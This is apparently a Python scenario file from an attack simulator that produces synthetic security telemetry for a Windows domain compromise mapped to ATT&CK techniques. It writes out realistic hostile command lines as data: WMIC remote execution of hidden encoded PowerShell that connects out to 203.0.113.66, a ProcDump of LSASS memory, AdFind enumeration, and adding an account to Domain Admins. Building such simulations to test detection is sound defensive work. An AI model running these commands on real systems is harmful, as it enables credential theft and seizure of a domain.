"""From a workstation to a server by WMI, from there to the rights of a domain administrator."""

from tocsin.sources.simulator import deeds, directory
from tocsin.sources.simulator.actors import HIGH, KERBEROS, NEW_CREDENTIALS
from tocsin.sources.simulator.attack import Move, Stage
from tocsin.sources.simulator.directory import DOMAIN_ADMINS
from tocsin.sources.simulator.fleet import Host
from tocsin.sources.simulator.scripts import encoded_command

MOVES = (
    Move("WMIC starts a process on a server", "TA0002", "T1047"),
    Move("The server's WMI host starts encoded PowerShell", "TA0002", "T1059.001"),
    Move("Its output comes back through an administrative share", "TA0002", "T1047"),
    Move("Which computers has the domain", "TA0007", "T1018"),
    Move("ProcDump writes the memory of LSASS", "TA0006", "T1003.001"),
    Move("A stolen hash becomes a logon", "TA0008", "T1550.002"),
    Move("The stolen account logs on to a domain controller", "TA0008", "T1021.002", "correlation"),
    Move("An account joins the domain administrators", "TA0003", "T1098.007"),
)

_STACK = (
    b"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2d0fe|"
    b"C:\\\\Windows\\\\Temp\\\\procdump64.exe+1dd2e"
)


def play(stage: Stage) -> None:
    """Write the whole scenario."""
    fleet = stage.fleet
    origin = stage.pick(fleet.workstations or fleet.hosts, "origin")
    server = stage.pick(fleet.servers, "server")
    _to_the_server(stage, origin, server)
    _to_the_domain(stage, server, stage.pick(fleet.controllers, "controller"))


def _to_the_server(stage: Stage, origin: Host, server: Host) -> None:
    shell = stage.start(0, origin, stage.desktop_of(origin, 400), "cmd", '"C:\\Windows\\system32\\cmd.exe" ')
    payload = encoded_command("$s = New-Object Net.Sockets.TCPClient('203.0.113.66', 443); $t = $s.GetStream()")
    stage.begin(MOVES, 1)
    remote = f'wmic  /node:{server.name} process call create "powershell -nop -w hidden -enc {payload}"'
    wmic = stage.start(30, origin, shell, "wmic", remote)
    stage.connect(30.4, origin, wmic, server.address.decode(), 135)
    stage.pause()
    admin = stage.fleet.admins[stage.number % len(stage.fleet.admins)]
    session = stage.recorder.logged_on(stage.at(31), server, admin, KERBEROS, address=origin.address, integrity=HIGH)
    launcher = stage.residents.resident_of(server).launcher
    host = stage.start(
        31.5, server, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    )
    stage.begin(MOVES, 2)
    shell = stage.start(32, server, host, "powershell", f"powershell -nop -w hidden -enc {payload}", session)
    stage.connect(33, server, shell, "203.0.113.66", 443)
    stage.begin(MOVES, 3)
    output = f"\\\\127.0.0.1\\ADMIN$\\__17683{stage.number}.44"
    stage.start(90, server, host, "cmd", f"cmd.exe /Q /c hostname 1> {output} 2>&1", session)
    stage.begin(MOVES, 4)
    found = 'C:\\ProgramData\\AdFind.exe  -f "(objectcategory=computer)" -csv name cn operatingSystem'
    stage.start(400, server, shell, "adfind", found)
    stage.begin(MOVES, 5)
    dump = f"C:\\Windows\\Temp\\procdump64.exe  -accepteula -ma lsass.exe C:\\Windows\\Temp\\l{stage.number}.dmp"
    tool = stage.start(800, server, shell, "procdump", dump)
    lsass = stage.residents.resident_of(server).lsass
    deeds.process_accessed(stage.recorder, stage.at(800.5), server, tool, lsass, b"0x1fffff", _STACK)
    stage.create_file(801, server, tool, f"C:\\Windows\\Temp\\l{stage.number}.dmp")
    stage.begin(MOVES, 6)
    stage.recorder.logged_on(stage.at(1300), server, admin, NEW_CREDENTIALS, address=b"::1", integrity=HIGH, by=session)
    stage.pause()


def _to_the_domain(stage: Stage, server: Host, controller: Host) -> None:
    recorder = stage.recorder
    admin = stage.fleet.admins[(stage.number + 2) % len(stage.fleet.admins)]
    stage.begin(MOVES, 7)
    session = recorder.logged_on(stage.at(1400), controller, admin, KERBEROS, address=server.address, integrity=HIGH)
    stage.begin(MOVES, 8)
    launcher = stage.residents.resident_of(controller).launcher
    host = stage.start(
        1401, controller, launcher, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
    )
    add = 'group "Domain Admins" svc_deploy /add /domain'
    net = stage.start(1402, controller, host, "net", f"net  {add}", session)
    stage.start(1402.2, controller, net, "net1", f"C:\\Windows\\system32\\net1  {add}")
    directory.global_member_added(
        recorder, stage.at(1402.4), controller, session, stage.fleet.services[4], *DOMAIN_ADMINS
    )
    stage.pause()
    recorder.logged_off(stage.at(1410), controller, session, KERBEROS)
